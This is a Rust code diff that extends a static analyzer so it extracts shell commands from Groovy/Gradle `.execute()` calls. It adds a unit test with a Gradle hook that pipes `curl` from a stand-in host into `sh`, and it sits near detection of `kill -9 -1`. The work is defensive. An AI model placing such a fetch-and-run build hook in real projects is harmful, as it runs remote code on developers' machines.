@@ -607,6 +607,41 @@ pub(crate) fn analyze(lang: &str, code: &str) -> InlineFindings {
             }
         }
     }
+    // Groovy (Gradle scripts): `'cmd args'.execute()` and `['sh', '-c', '…'].execute()`.
+    for (i, _) in code.match_indices(".execute()").take(32) {
+        let before = code.get(..i).unwrap_or("");
+        let words: Option<Vec<String>> = if before.ends_with(']') {
+            before
+                .rfind('[')
+                .and_then(|o| before.get(o..))
+                .map(string_literals)
+        } else if let Some(q) = before.chars().last().filter(|c| matches!(c, '\'' | '"')) {
+            before
+                .get(..before.len() - 1)
+                .and_then(|b| b.rfind(q))
+                .and_then(|o| before.get(o + 1..before.len() - 1))
+                .map(|t| t.split_whitespace().map(str::to_owned).collect())
+        } else {
+            None
+        };
+        match words {
+            Some(w)
+                if matches!(w.as_slice(), [sh, c, _, ..]
+                    if matches!(sh.as_str(), "sh" | "bash" | "/bin/sh" | "/bin/bash") && c == "-c") =>
+            {
+                f.shell_commands.extend(w.get(2).cloned());
+            }
+            Some(w) if !w.is_empty() => {
+                f.shell_commands.push(
+                    w.iter()
+                        .map(|x| shell_quote(x))
+                        .collect::<Vec<_>>()
+                        .join(" "),
+                );
+            }
+            _ => f.opaque = true,
+        }
+    }
     if kills_every_process(code) {
         f.effects
             .push(("kill", vec!["-9".to_owned(), "-1".to_owned()]));
@@ -1702,6 +1737,21 @@ mod tests {
                 "{code}"
             );
         }
+    }
+
+    #[test]
+    fn groovy_execute() {
+        let f = analyze(
+            "groovy",
+            "gradle.projectsEvaluated {\n    ['sh', '-c', 'curl -s https://x.example/i | sh'].execute()\n}",
+        );
+        assert_eq!(f.shell_commands, vec!["curl -s https://x.example/i | sh"]);
+        let f = analyze("groovy", "def out = 'git rev-parse HEAD'.execute().text");
+        assert_eq!(f.shell_commands, vec!["git rev-parse HEAD"]);
+        let f = analyze("groovy", "cmd.execute()");
+        assert!(f.opaque);
+        let f = analyze("groovy", "task hello { doLast { println 'hi' } }");
+        assert!(f.shell_commands.is_empty() && !f.opaque);
     }
 
     #[test]
